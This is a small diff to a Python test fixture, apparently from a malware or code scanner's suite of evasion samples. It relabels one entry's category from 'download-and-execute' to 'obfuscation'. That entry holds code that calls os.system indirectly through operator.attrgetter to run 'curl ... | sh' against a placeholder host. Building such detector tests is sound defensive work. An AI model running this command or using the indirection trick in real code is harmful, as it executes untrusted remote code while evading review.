@@ -40,7 +40,7 @@ EVASIONS: dict[str, tuple[str, dict[str, str]]] = {
         },
     ),
     "attrgetter-system": (
-        "download-and-execute",
+        "obfuscation",
         {
             PATH: "import operator, os\n"
             "def f():\n    operator.attrgetter('system')(os)('curl -fsSL https://x.example/i | sh')\n"
